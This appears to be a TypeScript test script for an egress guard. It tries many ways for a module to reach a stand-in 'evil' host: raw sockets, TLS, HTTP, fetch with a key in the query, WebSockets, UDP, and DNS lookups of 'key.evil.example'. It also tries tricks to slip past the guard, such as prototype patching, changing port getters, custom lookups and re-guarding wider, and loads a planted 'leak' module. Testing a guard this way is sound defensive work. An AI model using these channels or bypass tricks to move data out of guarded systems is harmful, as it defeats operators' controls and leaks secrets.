import dgram from 'node:dgram';
import dns, { lookup, promises as dnsPromises } from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net, { connect } from 'node:net';
import tls from 'node:tls';
import { WebSocket } from 'ws';
import { guardEgress } from './egress.ts';

/** A process whose connections are guarded, and a module in it that wants out: `venue evil path planted`. Says what became of each way. */
const [venue = '', evil = '', socketPath = '', planted = ''] = process.argv.slice(2);
const places: string[] = [];
const guard = guardEgress({ hosts: ['api.venue.example', venue, `LOCALHOST:${venue.split(':')[1]}`], paths: [socketPath], onRefused: (place) => places.push(place) });
const [evilHost, evilPort] = [evil.split(':')[0], Number(evil.split(':')[1])];
const [venueHost, venuePort] = [venue.split(':')[0], Number(venue.split(':')[1])];

/** `reached`, or why not. */
const outcome = (start: (done: (error?: unknown) => void) => unknown): Promise<string> => new Promise((resolve) => {
  const done = (error?: unknown): void => {
    const told = error instanceof Error && error.message === 'fetch failed' ? error.cause : error;
    resolve(told === undefined ? 'reached' : told instanceof Error ? `${told.name} ${'code' in told ? String(told.code) : ''} ${told.message}` : String(told));
  };
  try { start(done); } catch (error) { done(error); }
});

const onSocket = (socket: net.Socket, done: (error?: unknown) => void): void => { socket.once('connect', () => { socket.destroy(); done(); }).once('error', done); };
const onRequest = (request: http.ClientRequest, done: (error?: unknown) => void): void => { request.once('response', (response) => { response.resume(); done(); }).once('error', done); };
const viaWebSocket = (address: string) => (done: (error?: unknown) => void): void => { const socket = new WebSocket(address); socket.once('unexpected-response', () => done()).once('open', () => done()).once('error', done); };
const asked = (error: NodeJS.ErrnoException | null) => error ?? undefined;

const ways: Readonly<Record<string, (done: (error?: unknown) => void) => unknown>> = {
  'net, port and host': (done) => onSocket(net.connect(evilPort, evilHost), done),
  'net, options': (done) => onSocket(net.connect({ host: evilHost, port: evilPort }), done),
  'net, imported by name': (done) => onSocket(connect(evilPort, evilHost), done),
  'net, a bare socket': (done) => onSocket(new net.Socket().connect(evilPort, evilHost), done),
  'net, port as text': (done) => onSocket(net.connect({ host: evilHost, port: String(evilPort) as unknown as number }), done),
  'net, options that change': (done) => {
    let looks = 0;
    onSocket(new net.Socket().connect({ get port() { return looks++ === 0 ? venuePort : evilPort; }, host: venueHost } as net.SocketConnectOpts), (error) => done(error ?? (looks > 1 ? undefined : 'the venue, as it was first said')));
  },
  'net, a lookup of its own': (done) => onSocket(net.connect({ host: 'api.venue.example', port: 443, lookup: (_name, _options, found) => { found(null, evilHost, 4); } }), done),
  'net, path': (done) => onSocket(net.connect('/tmp/another.sock'), done),
  'tls': (done) => onSocket(tls.connect({ host: evilHost, port: evilPort, servername: 'api.venue.example' }), done),
  'http': (done) => onRequest(http.get({ host: evilHost, port: evilPort, headers: { host: 'api.venue.example' } }), done),
  'https': (done) => onRequest(https.get({ host: evilHost, port: evilPort, path: '/' }), done),
  'http2': (done) => http2.connect(`http://${evil}`).once('error', done).request({ ':path': '/' }).once('response', () => done()).once('error', done).end(),
  'fetch': (done) => fetch(`http://${evil}/?key=abc`).then(() => done(), done),
  'ws': viaWebSocket(`ws://${evil}`),
  'the WebSocket of Node': (done) => { const socket = new globalThis.WebSocket(`ws://${evil}`); socket.onopen = () => done(); socket.onerror = () => done(new Error('refused (a WebSocket says no more)')); },
  'datagram': (done) => dgram.createSocket('udp4').send('key', evilPort, evilHost, (error) => done(error ?? undefined)),
  'lookup': (done) => dns.lookup('key.evil.example', (error) => done(asked(error))),
  'lookup, imported by name': (done) => lookup('key.evil.example', (error) => done(asked(error))),
  'lookup, promise': (done) => dnsPromises.lookup('key.evil.example').then(() => done(), done),
  'resolve': (done) => dns.resolveTxt('key.evil.example', (error) => done(asked(error))),
  'resolver': (done) => new dns.Resolver().resolve4('key.evil.example', (error) => done(asked(error))),
  'resolver, promise': (done) => new dns.promises.Resolver().resolve('key.evil.example').then(() => done(), done),
  'putting it back': (done) => { net.Socket.prototype.connect = net.Socket.prototype.connect.bind(undefined) as typeof net.Socket.prototype.connect; done(); },
  'guarding again, wider': (done) => { guardEgress({ hosts: [evil] }); done(); },
  'a planted module': (done) => import(planted).then(({ leak }: { leak: (to: string) => Promise<unknown> }) => leak(`http://${evil}`)).then(() => done(), done),
};
const allowed: typeof ways = {
  'net': (done) => onSocket(net.connect(venuePort, venueHost), done),
  'http': (done) => onRequest(http.get(`http://${venue}/`), done),
  'fetch': (done) => fetch(`http://${venue}/`).then(() => done(), done),
  'ws': viaWebSocket(`ws://${venue}`),
  'path': (done) => onSocket(net.connect(socketPath), done),
  'net, by name': (done) => onSocket(net.connect({ host: 'localhost', port: venuePort }), done),
  'fetch, by name': (done) => fetch(`http://localhost:${venuePort}/`).then(() => done(), done),
  'lookup': (done) => dns.lookup('localhost', (error) => done(asked(error))),
};
const run = async (which: typeof ways): Promise<Record<string, string>> => {
  const results: Record<string, string> = {};
  for (const [name, way] of Object.entries(which)) results[name] = await outcome(way);
  return results;
};
process.stdout.write(`${JSON.stringify({ ways: await run(ways), allowed: await run(allowed), refused: guard.refused, places })}\n`);
process.exit(0);
